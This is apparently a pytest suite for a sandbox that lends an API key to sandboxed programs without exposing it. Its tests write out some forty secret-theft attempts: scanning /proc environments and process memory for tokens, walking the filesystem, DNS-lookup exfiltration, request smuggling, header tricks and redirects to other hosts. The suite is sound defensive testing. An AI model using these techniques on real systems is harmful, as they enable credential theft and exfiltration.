"""Whole calls that use a key they never have, and programs that try everything to get it: real TLS."""

import base64
import gzip
import json
import re
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import anyio.abc
import pytest
from tests.fixtures.brokered import DRIVERS, Called, glovebox, profile
from tests.fixtures.internet import OTHER, SITE, Cable, answering, internet, ok, read_head, redirect, wires

from glovebox_server.guards.redaction.detector import derive_forms, squeeze

__all__ = ["wires"]

API, ELSEWHERE = "api.example.org", "other.example.org"
KEY = "ghp_" + "b7Qx2Lm9Wc4Zk1Vt8Rn5Hy3Df6Gs0Pj2Aa1E"
LENT = f"""
[[network.credential]]
name = "tracker"
host = "{API}"
methods = ["GET", "HEAD", "POST"]
paths = ["/v1/*"]
header = "Authorization"
prefix = "Bearer "
source = "env:TRACKER_SOURCE"
"""
PLACED = LENT + 'env = "TRACKER_TOKEN"\n'


@pytest.fixture(autouse=True)
def source(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the server has the key from."""
    monkeypatch.setenv("TRACKER_SOURCE", KEY)


def kept(place: Path) -> bytes:
    """All that a server wrote into its state directory."""
    return b"\n".join(each.read_bytes() for each in (place / "state").rglob("*") if each.is_file())


@pytest.mark.parametrize("driver", DRIVERS)
async def test_a_fetched_page_is_asked_for_with_a_key(driver: str, wires: Cable, tmp_path: Path) -> None:
    """The server gets it, and neither result, records, receipt nor state directory hold it; the receipt names it."""
    text = profile("fetch_url", driver, f'{{ host = "{API}", methods = ["GET", "HEAD", "POST"] }}') + LENT
    async with internet(wires) as net, glovebox(net, tmp_path, text) as box:
        net.zone[API] = [[SITE]]
        requests: list[bytes] = []
        await net.serve(SITE, 443, answering(ok(f"me: {KEY}".encode(), "Content-Type: text/plain"), requests), name=API)
        called = await box.call("fetch_url", url=f"https://{API}/v1/me")
    assert f"Authorization: Bearer {KEY}".encode() in requests[0]
    assert called.fields["text"] == "me: [credential tracker]"
    assert [each.data["credential"] for each in called.records if each.kind == "egress.decided"] == ["tracker"]
    receipt = next(each for each in called.records if each.kind == "receipt.signed").data
    statement = json.loads(base64.b64decode(receipt["envelope"]["payload"]))
    assert [each["credential"] for each in statement["predicate"]["egress"]] == ["tracker"]
    assert KEY not in repr((called.result, called.records, statement))
    assert KEY.encode() not in kept(tmp_path)


#: As anybody writes them, with the key from its variable.
CLIENTS = {
    "urllib": """
import urllib.request
print(urllib.request.urlopen(urllib.request.Request(url, headers=key)).read().decode())
""",
    "installed": """
import httpx, requests
print(requests.get(url, headers=key).text)
with requests.Session() as session:
    session.headers.update(key)
    print(session.get(url).text)
print(httpx.get(url, headers=key).text)
with httpx.Client(headers=key) as client:
    print(client.get(url).text)
""",
    "absolute": """
import http.client
proxy = http.client.HTTPConnection("127.0.0.1", 3128)
proxy.request("GET", url, headers=key)
print(proxy.getresponse().read().decode())
""",
}


@pytest.mark.driver("bubblewrap")
async def test_a_program_says_the_headers_that_an_api_requires_and_no_other(wires: Cable, tmp_path: Path) -> None:
    """With the key, as its profile names them; one that the profile does not name is left out, and named."""
    code = f"""
import os, urllib.request
said = {{"Authorization": "Bearer " + os.environ["TRACKER_TOKEN"], "anthropic-version": "2023-06-01", "x-api-key": "x"}}
with urllib.request.urlopen(urllib.request.Request("https://{API}/v1/me", headers=said)) as answer:
    print(answer.headers["glovebox-left-out"])
"""
    own = 'headers = ["Anthropic-Version"]\nset_headers = { Notion-Version = "2022-06-28" }\n'
    text = profile("run_python", "bubblewrap", f'{{ host = "{API}" }}', tls="inspect") + PLACED + own
    async with internet(wires) as net, glovebox(net, tmp_path, text) as box:
        net.zone[API] = [[SITE]]
        requests: list[bytes] = []
        await net.serve(SITE, 443, answering(ok(b"me"), requests), name=API)
        called = await box.call("run_python", code=code)
    head = requests[0].lower()
    assert called.stdout == "x-api-key\n"
    assert b"x-api-key" not in head
    for line in (f"authorization: bearer {KEY}".lower(), "anthropic-version: 2023-06-01", "notion-version: 2022-06-28"):
        assert head.count(f"\r\n{line}\r\n".encode()) == 1


@pytest.mark.parametrize(
    ("driver", "start"),
    [
        pytest.param("bubblewrap", "cold", marks=pytest.mark.driver("bubblewrap")),
        pytest.param("bubblewrap", "warm", marks=pytest.mark.driver("bubblewrap")),
        pytest.param("gvisor", "cold", marks=pytest.mark.driver("gvisor")),
    ],
)
async def test_an_ordinary_program_uses_an_api_with_a_key_it_never_has(
    start: str, driver: str, wires: Cable, tmp_path: Path
) -> None:
    """Its code unchanged, its TLS inspected; in a sandbox made ahead, with a placeholder made for its call."""
    await uses_a_key(wires, tmp_path, driver, CLIENTS["urllib"], own=f'[python]\nstart = "{start}"\n')


@pytest.mark.parametrize("driver", DRIVERS)
async def test_a_program_that_asks_the_proxy_uses_an_api_with_a_key_it_never_has(
    driver: str, wires: Cable, tmp_path: Path
) -> None:
    """Without inspection, the host makes requests whose URL is absolute."""
    await uses_a_key(wires, tmp_path, driver, CLIENTS["absolute"], tls="tunnel")


async def uses_a_key(
    wires: Cable, place: Path, driver: str, asks: str, *, tls: str = "inspect", own: str = "", data: Path | None = None
) -> None:
    """Two whole calls: the server gets the key, and nothing else has it."""
    code = f"""
import os
held, url = os.environ["TRACKER_TOKEN"], "https://{API}/v1/me"
key = {{"Authorization": "Bearer " + held}}
{asks}
print(held[:4], len(held), "TRACKER_SOURCE" in os.environ)
"""
    rule = f'{{ host = "{API}", methods = ["GET", "HEAD", "POST"] }}'
    text = profile("run_python", driver, rule, tls=tls, max_connections=4) + PLACED + own
    async with internet(wires) as net, glovebox(net, place, text, data=data) as box:
        net.zone[API] = [[SITE]]
        requests: list[bytes] = []
        await net.serve(SITE, 443, answering(ok(f"me: {KEY}".encode()), requests), name=API)
        called = [await box.call("run_python", code=code) for _ in range(2)]
    for each in called:
        *lines, last = each.stdout.splitlines()
        assert (set(lines), last) == ({"me: [credential tracker]"}, "ghp_ 40 False"), each
        assert {r.data["credential"] for r in each.records if r.kind == "egress.decided"} == {"tracker"}
        assert KEY not in repr((each.result, each.records))
    assert requests
    assert all(f"Bearer {KEY}".encode() in each for each in requests)
    assert KEY.encode() not in kept(place)


BEGIN = f"""
import glob, http.client, json, os, re, socket, ssl, urllib.error, urllib.request, zlib
held, seen = os.environ["TRACKER_TOKEN"], []
key, KEY = {{"Authorization": "Bearer " + held}}, b"Authorization: Bearer HELD"
def note(*each):
    seen.extend(one if isinstance(one, bytes) else str(one).encode() for one in each)
def tried(act):
    try:
        note(act())
    except OSError as problem:
        note(problem)
def read(*patterns):
    for path in (each for pattern in patterns for each in glob.glob(pattern)):
        if os.path.isfile(path) and os.access(path, os.R_OK) and os.path.getsize(path) < 1 << 20:
            with open(path, "rb") as file:
                text = file.read()
            note(text[:4000], *set(re.findall(rb"ghp_.{{0,99}}", text)))
def ask(url, headers=key, **given):
    url = url if "://" in url else "https://{API}" + url
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, headers=headers, **given), timeout=20)
    except urllib.error.HTTPError as problem:
        answer = problem
    except OSError as problem:
        return note(problem)
    note(answer.status, answer.reason, answer.headers, answer.url, answer.read())
def by_proxy(url, headers):
    proxy = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
    proxy.request("GET", url, headers=headers)
    answer = proxy.getresponse()
    note(answer.status, answer.reason, answer.headers, answer.read())
def wire(host="{API}", port=443):
    plain = socket.create_connection(("127.0.0.1", 3128), 20)
    plain.sendall(f"CONNECT {{host}}:{{port}} HTTP/1.1\\r\\n\\r\\n".encode())
    note(plain.recv(4096))
    return plain
def raw(path, *lines, method="GET", body=b"", **where):
    secure = ssl.create_default_context().wrap_socket(wire(**where), server_hostname="{API}")
    head = [f"{{method}} {{path}} HTTP/1.1".encode(), b"Host: {API}", b"Connection: close", *lines, b"", body]
    secure.sendall(b"\\r\\n".join(head).replace(b"HELD", held.encode()))
    while data := secure.recv(65536):
        note(data)
"""
END = """
found = {}
for name, code in ATTEMPTS.items():
    seen.clear()
    exec(code, globals())
    found[name] = b"\\n".join(seen).hex()
print(bytes(byte ^ 0x55 for byte in zlib.compress(json.dumps(found).encode())).hex())
"""
FILLED = r"\[credential tracker\]"
#: What a program does, and what it sees for it: the pattern says how the attempt ended.
AROUND: Mapping[str, tuple[str, str]] = {
    "its variables": ("note(dict(os.environ))", "TRACKER_TOKEN"),
    "variables of every process": ("read('/proc/[0-9]*/environ')", "PATH="),
    "command lines of every process": ("read('/proc/[0-9]*/cmdline')", "."),
    "every open file of every process": ("read('/proc/[0-9]*/fd/*')\nnote('looked')", "looked"),
    "its own memory": (
        r"""
ask("/v1/plain")
memory = open("/proc/self/mem", "rb")
for line in open("/proc/self/maps"):
    begin, end = (int(each, 16) for each in line.split()[0].split("-"))
    if " rw" in line:
        memory.seek(begin)
        note(*set(re.findall(rb"ghp_\w{36}", memory.read(end - begin))))
""",
        "ghp_",
    ),
    "every file that it can read": (
        """
for folder, _, names in os.walk("/"):
    if not folder.startswith(("/proc", "/sys", "/usr", "/lib")):
        read(*(os.path.join(glob.escape(folder), glob.escape(each)) for each in names))
note("looked")
""",
        "looked",
    ),
    "the proxy's own pages": ("ask('http://127.0.0.1:3128/')\nask('http://127.0.0.1:3128/v1/plain')", "40[0-9]"),
    "what is said of a broken answer": ("ask('/v1/broken')", "50[0-9]"),
    "a socket around the proxy": (
        "tried(lambda: socket.create_connection(('93.184.1.1', 443), 3))",
        "unreachable|route",
    ),
    "a look-up of its own": ("tried(lambda: socket.getaddrinfo(held[:40] + '.example.org', 443))", "resolution|known"),
}
#: An honest server that repeats what it was sent, in many ways.
ECHOED = {
    way: (f"ask('/v1/{way}')", FILLED)
    for way in (
        *("plain", "base64", "twice", "hex", "percent", "escaped", "entities", "backwards", "small", "spread", "wide"),
        *("rot13", "base32", "decimal", "gzip", "deflate", "chunked", "error", "header", "reason", "events", "form"),
        *("challenge", "extension", "content-location", "refresh", "hsts", "alt-svc", "link", "etag", "created"),
        *("byteranges", "part", "utf-7", "big-endian", "swapped", "percent-twice", "zero-width", "behind"),
    )
} | {
    "the answer to a POST": ("ask('/v1/plain', data=b'x')", FILLED),
    "the answer to HEAD": ("ask('/v1/header', method='HEAD')", FILLED),
    "a cookie": ("ask('/v1/cookie')", "200"),
    "the name of a header": ("ask('/v1/name')", "(?m)^nothing of it$"),
    "a trailer": ("ask('/v1/trailer')", "200"),
    "early hints": ("ask('/v1/hints')", "200"),
    "gzip twice": ("raw('/v1/gzip-twice', KEY)", "HTTP/1.1 200"),
    "brotli": ("raw('/v1/brotli', KEY)", "HTTP/1.1 200"),
    "two requests at once": (
        """
secure = ssl.create_default_context().wrap_socket(wire(), server_hostname="api.example.org")
one = f"GET /v1/plain HTTP/1.1\\r\\nHost: api.example.org\\r\\nAuthorization: Bearer {held}\\r\\n\\r\\n".encode()
last = one.replace(b"plain", b"backwards")[:-2] + b"Connection: close\\r\\n\\r\\n"
secure.sendall(one + last)
while data := secure.recv(65536):
    note(data)
""",
        FILLED,
    ),
    "a range": ("ask('/v1/plain', {**key, 'Range': 'bytes=0-9'})", "no Range is asked for"),
    "a range on a condition": ("ask('/v1/plain', {**key, 'If-Range': 'x'})", "no Range is asked for"),
    "TRACE": ("ask('/v1/plain', method='TRACE')", "40[03]"),
    "guesses how it begins": ("for each in 'abcdef':\n    ask('/v1/said?ghp_' + each, {})", "ghp_f"),
}
REDIRECTED = {
    "to another host": ("ask('/v1/elsewhere')", "nothing"),
    "to another host and back": ("ask('/v1/around')", "nothing"),
    "to plain HTTP": ("ask('/v1/downgrade')", "leads from https to http"),
    "to another port": ("ask('/v1/port')", r"egress\.port|403"),
    "to an address with the key in it": ("ask('/v1/told')", FILLED),
    "out of its paths": ("ask('/v1/out')", "nothing"),
}
#: The placeholder where a server or a proxy might take it for more than it is.
MISPLACED = {
    "in the path": ("ask('/v1/' + held, {})", "nothing"),
    "in the query": ("ask('/v1/plain?key=' + held, {})", "nothing"),
    "in the body": ("ask('/v1/plain', {}, data=held.encode())", "nothing"),
    "as the address's password": ("by_proxy(f'https://x:{held}@api.example.org/v1/plain', {})", "40[03]"),
    "in other headers": ("ask('/v1/plain', {'X-Api-Key': held, 'User-Agent': held})", "nothing"),
    "in a header of proxies": ("ask('/v1/plain', {'Proxy-Authorization': 'Bearer ' + held})", "nothing"),
    "under another scheme": ("ask('/v1/plain', {'Authorization': 'Digest ' + held})", "nothing"),
    "in part": ("ask('/v1/plain', {'Authorization': 'Bearer ' + held[:20]})", "nothing"),
    "twice": ("raw('/v1/plain', b'Authorization: Bearer HELD', b'Authorization: Bearer HELD')", "nothing|40[03]"),
    "with a header inside": ("raw('/v1/plain', b'Authorization: Bearer HELD\\rX-Copy: HELD')", "nothing|40[03]"),
    "folded": ("raw('/v1/plain', b'Authorization: Bearer\\r\\n HELD')", "nothing|40[03]"),
    "for the next hop": ("raw('/v1/plain', b'Connection: authorization', b'Authorization: Bearer HELD')", FILLED),
}
#: Another place than the one that the key is for.
ELSEWHERE_ASKED = {
    "another host": ("ask('https://other.example.org/v1/plain')", "nothing"),
    "another host, Host of its own": (
        "ask('https://other.example.org/', {**key, 'Host': 'api.example.org'})",
        "nothing",
    ),
    "its host, Host of another": ("ask('/v1/plain', {**key, 'Host': 'other.example.org'})", FILLED),
    "another host inside its TLS": (
        "raw('https://other.example.org/v1/plain', b'Authorization: Bearer HELD')",
        "40[03]",
    ),
    "another host through its tunnel": ("tried(lambda: raw('/', KEY, host='other.example.org'))", "ertificate"),
    "another port": ("ask('https://api.example.org:8443/v1/plain')", "403"),
    "plain HTTP": ("ask('http://api.example.org/v1/plain')", "nothing"),
    "another path": ("ask('/v2/plain')", "nothing"),
    "dots in its path": ("ask('/v1/../v2/plain')", "nothing|40[03]"),
    "dots in its path, encoded": ("ask('/v1/%2e%2e/v2/plain')", "nothing|40[03]"),
    "a slash that is encoded": ("ask('/v1%2fplain')", "nothing|40[03]"),
    "another method": ("ask('/v1/plain', method='PUT', data=b'x')", r"egress\.method|403"),
    "its address": ("ask('https://93.184.1.1/v1/plain')", "has no name"),
    "a tunnel to another port": ("wire(port=8443)", "403"),
    "a request inside a request": (
        """
raw('/v1/plain', KEY, b'Content-Length: 4', b'Transfer-Encoding: chunked', method="POST",
    body=b'0\\r\\n\\r\\nGET /v1/plain HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
""",
        "HTTP/1.1 [245]0",
    ),
}
ATTEMPTS: Mapping[str, Mapping[str, tuple[str, str]]] = {
    "around it": AROUND, "handed back": ECHOED, "redirected": REDIRECTED, "misplaced": MISPLACED,
    "elsewhere": ELSEWHERE_ASKED,
}  # fmt: skip


def _utf16(said: bytes) -> bytes:
    return said.decode().encode("utf-16")


_SMALL = bytes(range(97, 123))
ROT13 = bytes.maketrans(_SMALL + _SMALL.upper(), _SMALL[13:] + _SMALL[:13] + _SMALL[13:].upper() + _SMALL[:13].upper())
WRITTEN: Mapping[str, Callable[[bytes], bytes]] = {
    "base64": lambda said: base64.b64encode(b"x" + said),
    "twice": lambda said: base64.b64encode(base64.b64encode(b"xy" + said)),
    "hex": lambda said: said.hex().upper().encode(),
    "percent": lambda said: "".join(f"%{byte:02X}" for byte in said).encode(),
    "escaped": lambda said: "".join(f"\\u{byte:04x}" for byte in said).encode(),
    "entities": lambda said: "".join(f"&#{byte};" for byte in said).encode(),
    "backwards": lambda said: said[::-1],
    "small": bytes.lower,
    "spread": lambda said: b"\r\n".join(said[at : at + 3] for at in range(0, len(said), 3)),
    "wide": _utf16,
    "rot13": lambda said: said.translate(ROT13),
    "base32": base64.b32encode,
    "decimal": lambda said: " ".join(map(str, said)).encode(),
    "utf-7": lambda said: said.decode().encode("utf-7"),
    "big-endian": lambda said: said.decode().encode("utf-16-be"),
    "swapped": bytes.swapcase,
    "percent-twice": lambda said: "".join(f"%25{byte:02x}" for byte in said).encode(),
    "zero-width": lambda said: "\N{ZERO WIDTH SPACE}".join(said.decode()).encode(),
}


async def echoes(stream: anyio.abc.ByteStream) -> None:
    """Hand back the key that came, or say that there was none, as the last part of the path wants it."""
    head = await read_head(stream)
    came = re.search(rb"(?im)^authorization: *bearer (\S+)", head)
    said = came[1] if came and came[1] == KEY.encode() else b"nothing"
    way = head.split(b" ")[1].partition(b"?")[0].rpartition(b"/")[2].decode()
    leads = {
        "elsewhere": f"https://{ELSEWHERE}/v1/plain", "around": f"https://{ELSEWHERE}/v1/back", "back": f"https://{API}/v1/plain",
        "downgrade": f"http://{API}/v1/plain", "port": f"https://{API}:8443/v1/plain", "out": "/v2/plain",
        "told": f"https://{ELSEWHERE}/{said.decode()}",
    }  # fmt: skip
    if way in leads:
        await stream.send(redirect(leads[way]))
        return
    text = said.decode()
    bare = "HTTP/1.1 200 OK\r\nContent-Length: 0"
    framed = {
        "gzip": ok(gzip.compress(said), "Content-Encoding: gzip"),
        "deflate": ok(zlib.compress(said), "Content-Encoding: deflate"),
        "error": ok(said).replace(b"200 OK", b"500 Oops"),
        "header": ok(b"", f"X-Echo: {text}"),
        "reason": f"HTTP/1.1 403 No {text}\r\nX-Echo: {text}\r\nContent-Length: 0\r\n\r\n".encode(),
        "events": b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: " + said + b"\n\n",
        "form": ok(b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n' + said + b"\r\n--b--\r\n"),
        "name": ok(b"nothing of it", f"X-{text}: 1"),
        "cookie": f"{bare}\r\nSet-Cookie: key={text}\r\n\r\n".encode(),
        "hints": f"HTTP/1.1 103 Early Hints\r\nLink: <{text}>\r\n\r\n{bare}\r\n\r\n".encode(),
        "challenge": ok(said, f'WWW-Authenticate: Bearer realm="{text}"').replace(b"200 OK", b"401 Unauthorized"),
        "trailer": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-Echo: " + said + b"\r\n\r\n",
        "chunked": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b"".join(b"1\r\n%c\r\n" % byte for byte in said) + b"0\r\n\r\n",
        "broken": b"HTTP/1.1 200 OK\r\nbad header " + said + b"\r\n\r\n",
        "said": ok(head.split(b" ")[1]),
        "extension": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"%x;key=%b\r\n%b\r\n0;key=%b\r\n\r\n"
        % (len(said), said, said, said),
        "content-location": ok(said, f"Content-Location: /v1/{text}"), "refresh": ok(said, f"Refresh: 0; url=/{text}"),
        "hsts": ok(said, f"Strict-Transport-Security: max-age=1; {text}"), "etag": ok(said, f'ETag: "{text}"'),
        "alt-svc": ok(said, f'Alt-Svc: {text}="{text}.example.org:443"'), "link": ok(said, f"Link: <{text}>; rel=next"),
        "created": ok(said, f"Location: https://{ELSEWHERE}/{text}").replace(b"200 OK", b"201 Created"),
        "byteranges": ok(
            b"--b\r\nContent-Range: bytes 0-3/40\r\n\r\n" + said[:4] + b"\r\n--b\r\n\r\n" + said + b"\r\n--b--\r\n",
            "Content-Type: multipart/byteranges; boundary=b",
        ),
        "part": ok(said, f"Content-Range: bytes 0-{len(said) - 1}/{len(said)}").replace(b"200 OK", b"206 Partial"),
        "behind": ok(said) + ok(said[::-1]),
        "gzip-twice": ok(gzip.compress(gzip.compress(said)), "Content-Encoding: gzip, gzip"),
        "brotli": ok(said, "Content-Encoding: br"),
    }  # fmt: skip
    await stream.send(framed.get(way) or ok(WRITTEN.get(way, bytes)(said)))


def test_there_are_forty_attempts() -> None:
    """Each of another kind."""
    codes = [code for group in ATTEMPTS.values() for code, _ in group.values()]
    assert len(set(codes)) == len(codes) >= 40


@pytest.mark.driver("bubblewrap")
@pytest.mark.parametrize("group", ATTEMPTS)
async def test_no_attempt_gets_the_key(group: str, wires: Cable, tmp_path: Path) -> None:
    """Nothing that a program sees has it, however it is written, nor has a server that it is not for.

    What it sees leaves it in a cipher of its own, so that the guard of results has no part in this. The control: in the
    same call a plain request is made with the key.
    """
    attempts = ATTEMPTS[group]
    rules = [f'{{ host = "{API}", methods = ["GET", "HEAD", "POST"], schemes = ["https", "http"] }}']
    rules.append(f'{{ host = "{ELSEWHERE}" }}')
    text = profile("run_python", "bubblewrap", *rules, wall=60, tls="inspect", max_connections=64, max_redirects=5)
    async with internet(wires) as net, glovebox(net, tmp_path, text + PLACED) as box:
        net.zone |= {API: [[SITE]], ELSEWHERE: [[OTHER]]}
        home, away = list[bytes](), list[bytes]()
        for address, port, name, heard in (
            (SITE, 443, API, home), (SITE, 80, "", away), (SITE, 8443, API, away), (OTHER, 443, ELSEWHERE, away),
        ):  # fmt: skip
            await net.serve(address, port, _heard(heard), name=name)
        made = {name: code for name, (code, _) in attempts.items()} | {"control": "ask('/v1/control')"}
        called = await box.call("run_python", code=f"ATTEMPTS = {made!r}\n{BEGIN}{END}")
    saw = _seen(called)
    assert {name: saw[name] for name, (_, ends) in attempts.items() if not re.search(ends.encode(), saw[name])} == {}
    assert any(f"Bearer {KEY}".encode() in each and b" /v1/control " in each for each in home), called
    forms = derive_forms("tracker", KEY)
    assert {name: text for name, text in saw.items() if any(form in squeeze(text) for form in forms)} == {}
    assert not any(KEY.encode() in each for each in away)
    assert KEY not in repr((called.result, called.records))


def _heard(requests: list[bytes]) -> Callable[[anyio.abc.ByteStream], Any]:
    async def handler(stream: anyio.abc.ByteStream) -> None:
        await echoes(_Noted(stream, requests))  # type: ignore[arg-type]  # it is read and written alone

    return handler


class _Noted:
    """A stream whose bytes are kept."""

    def __init__(self, stream: anyio.abc.ByteStream, requests: list[bytes]) -> None:
        self._stream, self._requests = stream, requests
        self.send = stream.send

    async def receive(self) -> bytes:
        """Read, and keep it."""
        data = await self._stream.receive()
        self._requests.append(data)
        return data


def _seen(called: Called) -> Mapping[str, bytes]:
    assert not called.result.failed, called
    packed = bytes(byte ^ 0x55 for byte in bytes.fromhex(called.stdout.strip()))
    return {name: bytes.fromhex(text) for name, text in json.loads(zlib.decompress(packed)).items()}
